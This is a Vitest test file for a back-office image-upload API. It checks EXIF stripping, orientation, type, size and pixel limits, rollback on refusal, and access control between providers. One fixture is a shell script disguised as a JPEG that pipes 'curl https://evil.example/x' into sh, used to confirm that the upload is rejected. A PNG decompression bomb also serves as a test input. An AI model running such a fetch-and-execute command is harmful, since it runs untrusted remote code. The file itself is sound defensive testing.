import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import * as imagesApi from '@shared/api/contract/back-office/images';
import { seedCatalog } from '@server/seed/seed-catalog';
import { BACK_OFFICE_HOST, bodyOf, callEndpoint } from '@server/test-support/call-endpoint';
import {
  endlessJpeg,
  hugePngHeader,
  phonePhoto,
  plainPng,
  uploadFiles,
  type UploadedFile,
} from '@server/test-support/multipart';
import { signedInCouple } from '@server/test-support/signed-in-couple';
import { signedInProvider } from '@server/test-support/signed-in-provider';
import { freshAppWithLocalImagesForEachTest } from '@server/test-support/app-with-local-images';

const { t, images } = freshAppWithLocalImagesForEachTest(seedCatalog);
const { storedKeys } = images;

const photo = async (filename = 'mariage.jpg'): Promise<UploadedFile> => ({
  field: 'files',
  filename,
  type: 'image/jpeg',
  data: await phonePhoto(),
});

async function rowsOf(providerId: number) {
  return t.db.query<{ storage_key: string }>(
    'SELECT storage_key FROM provider_images WHERE provider_id = $1',
    [providerId],
  );
}

async function directoryVersion(): Promise<number> {
  const [row] = await t.db.query<{ version: string }>('SELECT version FROM directory_version');
  return Number(row?.version);
}

/** What a refusal must leave: no row, no object. */
async function expectNothingStored(providerId: number) {
  expect(await rowsOf(providerId)).toEqual([]);
  expect(await storedKeys()).toEqual([]);
}

describe('the back-office’s photo uploads', () => {
  it('stores several photos at once, upright and without their metadata (GPS above all), under new keys', async () => {
    const provider = await signedInProvider(t, 'Atelier Lumière', '+33611111111');
    const before = await directoryVersion();
    const answer = await uploadFiles(
      t.app,
      imagesApi.uploadImages,
      [
        await photo('un.jpg'),
        { field: 'files', filename: 'logo.png', type: 'image/png', data: await plainPng({ alpha: true }) },
        // The declared type is not believed: the bytes are a JPEG's.
        { ...(await photo('trois.png')), type: 'application/octet-stream' },
      ],
      provider,
    );
    expect(answer.status, JSON.stringify(answer.body)).toBe(200);
    const gallery = answer.body as imagesApi.Gallery;
    expect(gallery.images).toHaveLength(3);
    expect(gallery.images.map((image) => image.position)).toEqual([0, 1, 2]);
    expect(gallery.images.every((image) => image.visible && image.caption === '')).toBe(true);
    const [first, logo] = gallery.images;
    expect(first?.key).toMatch(new RegExp(`^providers/${provider.providerId}/[0-9a-f-]{36}\\.jpg$`));
    expect(logo?.key).toMatch(/\.webp$/);
    expect(await storedKeys()).toEqual(gallery.images.map((image) => image.key).sort());
    expect(await directoryVersion()).toBeGreaterThan(before);

    // The phone held it sideways (120 × 80, orientation 6): it is stored upright, 80 × 120, with no EXIF left.
    const stored = await images.storage.get(first?.key ?? '');
    const metadata = await sharp(stored ?? Buffer.alloc(0)).metadata();
    expect({ width: metadata.width, height: metadata.height, format: metadata.format }).toEqual({
      width: 80,
      height: 120,
      format: 'jpeg',
    });
    expect(metadata.exif).toBeUndefined();
    expect(metadata.orientation).toBeUndefined();
    expect({ width: first?.width, height: first?.height }).toEqual({ width: 80, height: 120 });

    // The existing image route serves it.
    const served = await t.app.inject({
      url: `/images/${first?.key}?w=80`,
      headers: { host: BACK_OFFICE_HOST },
    });
    expect(served.statusCode).toBe(200);
  });

  it('refuses a script renamed .jpg, reading its bytes, and stores nothing', async () => {
    const provider = await signedInProvider(t, 'Atelier Lumière', '+33611111111');
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
    const answer = await uploadFiles(
      t.app,
      imagesApi.uploadImages,
      [{ field: 'files', filename: 'photo.jpg', type: 'image/jpeg', data: script }],
      provider,
    );
    expect(answer.status).toBe(415);
    expect(answer.body.message).toContain('photo.jpg');
    expect(answer.body.message).toContain('JPEG, PNG, WebP, AVIF');
    await expectNothingStored(provider.providerId);
  });

  it('refuses a 60 MB file while it streams (413, naming the limit) and stores nothing', async () => {
    const provider = await signedInProvider(t, 'Atelier Lumière', '+33611111111');
    const answer = await uploadFiles(
      t.app,
      imagesApi.uploadImages,
      [{ field: 'files', filename: 'enorme.jpg', type: 'image/jpeg', data: endlessJpeg(60 * 1024 * 1024) }],
      provider,
    );
    expect(answer.status).toBe(413);
    expect(answer.body.message).toMatch(/enorme\.jpg.*25 Mo/);
    await expectNothingStored(provider.providerId);
  });

  it('refuses a 30 000 × 30 000 PNG from its header, before decoding a pixel of it', async () => {
    const provider = await signedInProvider(t, 'Atelier Lumière', '+33611111111');
    const bomb = hugePngHeader();
    expect(bomb.length).toBeLessThan(300_000);
    const started = performance.now();
    const answer = await uploadFiles(
      t.app,
      imagesApi.uploadImages,
      [{ field: 'files', filename: 'bombe.png', type: 'image/png', data: bomb }],
      provider,
    );
    // Decoding it would take 2.7 GB and many seconds; reading its header takes milliseconds.
    expect(performance.now() - started).toBeLessThan(2_000);
    expect(answer.status).toBe(422);
    expect(answer.body.message).toMatch(/bombe\.png.*50 mégapixels/);
    await expectNothingStored(provider.providerId);
  });

  it('keeps none of a request’s files when one of them is refused', async () => {
    const provider = await signedInProvider(t, 'Atelier Lumière', '+33611111111');
    const answer = await uploadFiles(
      t.app,
      imagesApi.uploadImages,
      [
        await photo('un.jpg'),
        { field: 'files', filename: 'faux.jpg', type: 'image/jpeg', data: Buffer.from('not an image') },
        await photo('trois.jpg'),
      ],
      provider,
    );
    expect(answer.status).toBe(415);
    expect(answer.body.message).toContain('faux.jpg');
    await expectNothingStored(provider.providerId);
  });

  it('refuses too many files at once, a request without files and a JSON body', async () => {
    const provider = await signedInProvider(t, 'Atelier Lumière', '+33611111111');
    const eleven = await Promise.all(Array.from({ length: 11 }, (_, index) => photo(`${index}.jpg`)));
    const tooMany = await uploadFiles(t.app, imagesApi.uploadImages, eleven, provider);
    expect(tooMany.status).toBe(413);
    expect(tooMany.body.message).toContain('10');
    expect((await uploadFiles(t.app, imagesApi.uploadImages, [], provider)).status).toBe(400);
    const json = await callEndpoint(t.app, imagesApi.uploadImages, {}, { as: provider });
    expect(json.status).toBe(415);
    await expectNothingStored(provider.providerId);
  });

  it('gives uploads sent at once positions one after the other', async () => {
    const provider = await signedInProvider(t, 'Atelier Lumière', '+33611111111');
    const answers = await Promise.all(
      ['un.jpg', 'deux.jpg', 'trois.jpg', 'quatre.jpg'].map(async (name) =>
        uploadFiles(t.app, imagesApi.uploadImages, [await photo(name)], provider),
      ),
    );
    expect(answers.map((answer) => answer.status)).toEqual([200, 200, 200, 200]);
    const gallery = bodyOf(await callEndpoint(t.app, imagesApi.images, {}, { as: provider }));
    expect(gallery.images.map((image) => image.position)).toEqual([0, 1, 2, 3]);
    expect(await storedKeys()).toHaveLength(4);
  });

  it('refuses a photo past the gallery’s limit (409, naming it) and stores nothing', async () => {
    const provider = await signedInProvider(t, 'Atelier Lumière', '+33611111111');
    await t.db.query(
      `INSERT INTO provider_images (provider_id, storage_key, position)
       SELECT $1, 'seed/placeholder-1.jpg', position FROM generate_series(0, $2 - 2) AS position`,
      [provider.providerId, imagesApi.GALLERY_MAX_PHOTOS],
    );
    const two = await uploadFiles(
      t.app,
      imagesApi.uploadImages,
      [await photo('a.jpg'), await photo('b.jpg')],
      provider,
    );
    expect(two.status).toBe(409);
    expect(two.body.message).toContain(String(imagesApi.GALLERY_MAX_PHOTOS));
    expect(await storedKeys()).toEqual([]);
    expect((await uploadFiles(t.app, imagesApi.uploadImages, [await photo()], provider)).status).toBe(200);
    expect((await uploadFiles(t.app, imagesApi.uploadImages, [await photo()], provider)).status).toBe(409);
    expect(await storedKeys()).toHaveLength(1);
  });

  it('refuses uploads to a couple (403) and to a caller without a session (401)', async () => {
    const coupleSession = await signedInCouple(t, '+33622222222');
    expect((await uploadFiles(t.app, imagesApi.uploadImages, [await photo()], coupleSession)).status).toBe(
      403,
    );
    expect((await uploadFiles(t.app, imagesApi.uploadImages, [await photo()])).status).toBe(401);
    expect(
      (
        await uploadFiles(
          t.app,
          imagesApi.uploadProfileImage,
          [{ ...(await photo()), field: 'file' }],
          coupleSession,
        )
      ).status,
    ).toBe(403);
    expect(await storedKeys()).toEqual([]);
  });
});

describe('the gallery’s captions, visibility and deletion', () => {
  it('captions a photo, hides and shows it, deletes it and its file, moving the directory’s version', async () => {
    const provider = await signedInProvider(t, 'Atelier Lumière', '+33611111111');
    const uploaded = await uploadFiles(
      t.app,
      imagesApi.uploadImages,
      [await photo('un.jpg'), await photo('deux.jpg')],
      provider,
    );
    const [first, second] = (uploaded.body as imagesApi.Gallery).images;
    const id = String(first?.id);

    let version = await directoryVersion();
    const captioned = await callEndpoint(
      t.app,
      imagesApi.updateImage,
      { caption: '  La cérémonie au château  ' },
      { as: provider, params: { id } },
    );
    expect(bodyOf(captioned).images[0]?.caption).toBe('La cérémonie au château');
    expect(await directoryVersion()).toBeGreaterThan(version);
    const tooLong = await callEndpoint(
      t.app,
      imagesApi.updateImage,
      { caption: 'x'.repeat(201) },
      { as: provider, params: { id } },
    );
    expect(tooLong.status).toBe(400);

    version = await directoryVersion();
    const hidden = await callEndpoint(
      t.app,
      imagesApi.toggleImageVisibility,
      {},
      { as: provider, params: { id } },
    );
    expect(bodyOf(hidden).images[0]?.visible).toBe(false);
    expect(await directoryVersion()).toBeGreaterThan(version);
    const shown = await callEndpoint(
      t.app,
      imagesApi.toggleImageVisibility,
      {},
      { as: provider, params: { id } },
    );
    expect(bodyOf(shown).images[0]?.visible).toBe(true);

    const deleted = await callEndpoint(t.app, imagesApi.deleteImage, {}, { as: provider, params: { id } });
    expect(bodyOf(deleted).images.map((image) => image.id)).toEqual([second?.id]);
    expect(await storedKeys()).toEqual([second?.key]);
    const again = await callEndpoint(t.app, imagesApi.deleteImage, {}, { as: provider, params: { id } });
    expect(again.status).toBe(404);
  });

  it('answers 404 to another provider naming the first one’s photos, and changes nothing', async () => {
    const owner = await signedInProvider(t, 'Atelier Lumière', '+33611111111');
    const other = await signedInProvider(t, 'Maison Rivage', '+33633333333');
    const uploaded = await uploadFiles(t.app, imagesApi.uploadImages, [await photo()], owner);
    const [image] = (uploaded.body as imagesApi.Gallery).images;
    const params = { id: String(image?.id) };
    const as = { as: other, params };
    expect((await callEndpoint(t.app, imagesApi.updateImage, { caption: 'À moi' }, as)).status).toBe(404);
    expect((await callEndpoint(t.app, imagesApi.toggleImageVisibility, {}, as)).status).toBe(404);
    expect((await callEndpoint(t.app, imagesApi.deleteImage, {}, as)).status).toBe(404);
    expect(bodyOf(await callEndpoint(t.app, imagesApi.images, {}, { as: other })).images).toEqual([]);
    expect(bodyOf(await callEndpoint(t.app, imagesApi.images, {}, { as: owner })).images).toEqual([image]);
    expect(await storedKeys()).toEqual([image?.key]);
  });
});

describe('the profile photo', () => {
  it('is uploaded through the same pipeline, replaced (the old file removed) and removed', async () => {
    const provider = await signedInProvider(t, 'Atelier Lumière', '+33611111111');
    const profilePhoto = { ...(await photo('portrait.jpg')), field: 'file' };
    const first = await uploadFiles(t.app, imagesApi.uploadProfileImage, [profilePhoto], provider);
    expect(first.status, JSON.stringify(first.body)).toBe(200);
    const firstKey = (first.body as imagesApi.Gallery).profileImage;
    expect(firstKey).toMatch(new RegExp(`^providers/${provider.providerId}/`));
    const [row] = await t.db.query<{ profile_image: string }>(
      'SELECT profile_image FROM providers WHERE id = $1',
      [provider.providerId],
    );
    expect(row?.profile_image).toBe(firstKey);
    expect(
      (await sharp((await images.storage.get(firstKey ?? '')) ?? Buffer.alloc(0)).metadata()).exif,
    ).toBeUndefined();

    const second = await uploadFiles(t.app, imagesApi.uploadProfileImage, [profilePhoto], provider);
    const secondKey = (second.body as imagesApi.Gallery).profileImage;
    expect(secondKey).not.toBe(firstKey);
    expect(await storedKeys()).toEqual([secondKey]);

    const version = await directoryVersion();
    const removed = await callEndpoint(t.app, imagesApi.deleteProfileImage, {}, { as: provider });
    expect(bodyOf(removed).profileImage).toBeNull();
    expect(await storedKeys()).toEqual([]);
    expect(await directoryVersion()).toBeGreaterThan(version);
  });

  it('refuses two files, and keeps a seeded placeholder’s file when the profile photo is replaced', async () => {
    const provider = await signedInProvider(t, 'Atelier Lumière', '+33611111111');
    await images.storage.put('seed/placeholder-1.jpg', await phonePhoto());
    await t.db.query("UPDATE providers SET profile_image = 'seed/placeholder-1.jpg' WHERE id = $1", [
      provider.providerId,
    ]);
    const two = [
      { ...(await photo('a.jpg')), field: 'file' },
      { ...(await photo('b.jpg')), field: 'file' },
    ];
    expect((await uploadFiles(t.app, imagesApi.uploadProfileImage, two, provider)).status).toBe(413);
    await callEndpoint(t.app, imagesApi.deleteProfileImage, {}, { as: provider });
    expect(await images.storage.exists('seed/placeholder-1.jpg')).toBe(true);
  });
});
